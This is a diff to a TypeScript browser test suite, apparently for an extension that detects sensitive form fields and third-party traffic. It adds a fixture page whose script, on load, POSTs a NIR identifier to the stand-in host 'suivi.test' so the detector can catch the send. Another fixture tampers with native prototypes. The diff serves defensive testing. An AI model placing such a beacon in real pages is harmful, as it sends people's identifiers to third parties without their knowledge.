@@ -5,6 +5,7 @@ import {type Browser, openBrowser} from '../rig/browser.ts';
 import type {Page} from '../rig/page.ts';
 import type {Servers} from '../rig/servers.ts';
 import {browsers, extensionOf, form, NIR, rawIn, SPACED, startSite} from './site.ts';
+import {expectValid} from './valid.ts';
 
 const many = (count: number): string =>
   Array.from(
@@ -15,7 +16,7 @@ const many = (count: number): string =>
 const pages = {
   '/vide': '<p>Rien</p>',
   '/champs': `<form method="post" action="http://portail.test/envoi">${many(5000)}</form>`,
-  '/cadres': `<script>for (let n = 0; n < 1000; n += 1) { const f = document.createElement('iframe'); f.srcdoc = '<input name=x' + n + '>'; document.documentElement.append(f); }</script>${form('http://portail.test/envoi')}`,
+  '/cadres': `<script>for (let n = 0; n < 1000; n += 1) { const f = document.createElement('iframe'); f.srcdoc = '<input name=x' + n + '>'; document.documentElement.append(f); } onload = () => { void fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: 'nir=${NIR}'}); };</script>${form('http://portail.test/envoi')}`,
   '/piege': `<script>
     Object.prototype.category = 'nir'; Object.prototype.fields = [1]; Array.prototype.map = () => { throw new Error('map'); };
     String.prototype.slice = () => '${NIR}'; JSON.stringify = () => '{}'; Map.prototype.get = () => 'x'; window.MutationObserver = null;
@@ -59,6 +60,7 @@ describe.each(browsers)('in %s', (name) => {
     const arrived = await servers.log.arrived(({path, complete}) => path === '/gros' && complete, 60_000);
     expect(arrived.length).toBe(200 * 1024 * 1024);
     const report = await browser.reportWhen(page, 'the beginning', observed('third-party'), 60_000);
+    expectValid(report);
     expect(report.traffic.truncated).toBe(1);
     await isAlive();
   });
@@ -136,15 +138,12 @@ describe.each(browsers)('in %s', (name) => {
 
   it('survives a page of 1,000 frames', async () => {
     page = await browser.page();
+    // The page is busy for long: it sends by itself once it is loaded, and nobody asks it anything.
     await page.goto('https://portail.test/cadres', {wait: false});
-    const report = await browser.reportWhen(
-      page,
-      'the form among them',
-      ({fields}) => fields.some(({category}) => category === 'nir'),
-      150_000,
-    );
+    const both = (report: Report) =>
+      report.fields.some(({category}) => category === 'nir') && observed('third-party')(report);
+    const report = await browser.reportWhen(page, 'the form among them, and the send', both, 200_000);
     expect(report.findings).toContainEqual(expect.objectContaining({rule: 'plain-form', category: 'nir'}));
-    await isAlive();
   }, 240_000);
 
   it('is not misled by a page that changes every native', async () => {
